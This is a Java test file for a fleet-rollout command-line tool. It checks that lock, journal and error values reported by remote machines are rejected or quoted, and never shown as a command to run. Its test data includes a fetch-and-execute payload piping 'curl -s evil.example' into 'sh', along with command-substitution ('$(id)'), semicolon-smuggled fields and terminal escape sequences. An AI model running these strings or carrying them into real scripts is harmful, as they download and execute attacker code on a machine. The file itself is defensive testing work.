package io.walterfleet;

import static org.assertj.core.api.Assertions.assertThat;

import io.walterfleet.cli.TestSite;
import io.walterfleet.cli.TestSite.Ran;
import io.walterfleet.remote.testing.LyingRemote;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a machine says is its words, and never stands in a command or as our advice. */
@Tag("scripts")
class MachineWordsTest {
  private static final String EVIL = "curl%20-s%20evil.example|sh;#";
  private static final String LOCK =
      "lock=held\nlock.id=%s\nlock.owner=%s\nlock.run=%s\nlock.reason=%s\nlock.left=9\nlock.age=1";

  private TestSite site;
  private String inventory;

  @BeforeEach
  void start(@TempDir Path folder) throws IOException {
    site = new TestSite(folder);
    inventory = site.inventory(List.of("store-1", "store-2"), "rollout: {maxFailed: 2}\n");
    for (String machine : List.of("store-1", "store-2")) {
      site.installed(machine, "1.8.2");
    }
  }

  @ParameterizedTest
  @CsvSource({
    "3-r1;EVIL, ana@desk, r1, apply",
    "3-r1, ana@desk;EVIL, r1, apply",
    "3-r1, ana@desk, r1;EVIL, apply",
    "3-r1, ana@desk, r1, apply;EVIL",
    "'', ana@desk, r1, apply",
    "3-r1%0A, ana@desk, r1, apply"
  })
  void aLockOfAnotherFormMakesTheMachineUnknown(
      String id, String owner, String run, String reason) {
    String lock = LOCK.formatted(id, owner, run, reason).replace("EVIL", EVIL);
    lie("lock=none", lock);
    assertUnknown();
  }

  @Test
  void aLockOfTheFormStands() {
    lie("lock=none", LOCK.formatted("3-r1", "ana@desk", "r1", "apply"));
    Ran ran = site.run("plan", "-i", inventory);
    assertThat(ran.out()).contains("walter-fleet unlock -i SITE/fleet.yml 3-r1 --limit store-1");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "journal=none -> journal=unfinished\njournal.run=EVIL\njournal.step=swap\njournal.state=done"
            + "\njournal.target=a\njournal.done=\njournal.planned=",
        "journal=none -> journal=unfinished\njournal.run=r1\njournal.step=EVIL\njournal.state=done"
            + "\njournal.target=a\njournal.done=\njournal.planned=",
        "journal=none -> journal=unfinished\njournal.run=r1\njournal.step=swap\njournal.state=done"
            + "\njournal.target=EVIL\njournal.done=\njournal.planned=",
        "journal=none -> journal=unfinished\njournal.run=r1\njournal.step=rollback"
            + "\njournal.state=done\njournal.stamp=EVIL\njournal.done=\njournal.planned=",
        "journal=none -> journal=none\nbackup=EVIL none 1 - r1",
        "journal=none -> journal=none\nbackup=20261123T124056Z none 1 - r1;x",
        "journal=none -> journal=none\napplied.target=EVIL - - - -",
        "journal=none -> journal=none\nbundle=EVIL",
        "journal=none -> journal=none\nservice=EVIL running a b 0 no",
        "journal=none -> journal=none\n$(id)=1",
        "missing= -> missing=tar;EVIL",
      })
  void aNameOfAnotherFormMakesTheMachineUnknown(String change) {
    String[] words = change.replace("EVIL", EVIL).split(" -> ", -1);
    lie(words[0], words[1]);
    assertUnknown();
  }

  @Test
  void theFixOfAMachineIsNotOurs() throws IOException {
    site.fail("store-1", "pull", "no");
    site.reach(
        real ->
            new LyingRemote(
                real,
                "store-1",
                said ->
                    said.replaceAll("(?m)^error\\.fix=.*$", "error.fix=" + EVIL)
                        .replaceAll("(?m)^error=.*$", "error=all is well; fix: " + EVIL)
                        .replaceAll("(?m)^error\\.why=.*$", "error.why=%22%0Afix: " + EVIL)));
    Ran ran = site.run("apply", "--yes", "-i", inventory);
    assertThat(ran.exitCode()).isEqualTo(3);
    assertThat(ran.out().replaceAll("\\s+", " "))
        .contains(
            "store-1: failed: pull failed: \"all is well; fix: curl -s evil.example|sh;#\": \"'\\u{a}fix:"
                + " curl -s evil.example|sh;#\" (nothing was changed) fix: mend that on the machine,"
                + " then run this command again")
        .contains("1 applied, 1 failed");
  }

  @Test
  void theReasonOfAMachineIsInQuotationMarks() {
    lie("complete=yes", "unknown.x=run:%20" + EVIL + "%1B[2J\ncomplete=yes");
    assertThat(site.run("plan", "-i", inventory).out().replaceAll("\\s+", " "))
        .contains("x could not be read: \"run: curl -s evil.example|sh;#\\u{1b}[2J\"")
        .contains("fix: mend that on the machine");
  }

  private void lie(String text, String instead) {
    site.reach(
        real ->
            new LyingRemote(
                real,
                "store-1",
                said -> said.replaceAll("(?m)^\\Q" + text + "\\E$", instead.replace("$", "\\$"))));
  }

  /** In every format, and without a word of the machine's. */
  private void assertUnknown() {
    for (String format : List.of("text", "json", "markdown")) {
      for (String verb : List.of("plan", "status", "drift")) {
        Ran ran = site.run(verb, "-i", inventory, "--format", format);
        assertThat(ran.exitCode()).as(verb).isEqualTo(8);
        assertThat(ran.out() + ran.err()).as(verb).doesNotContain("evil", "$(id)");
      }
    }
  }
}
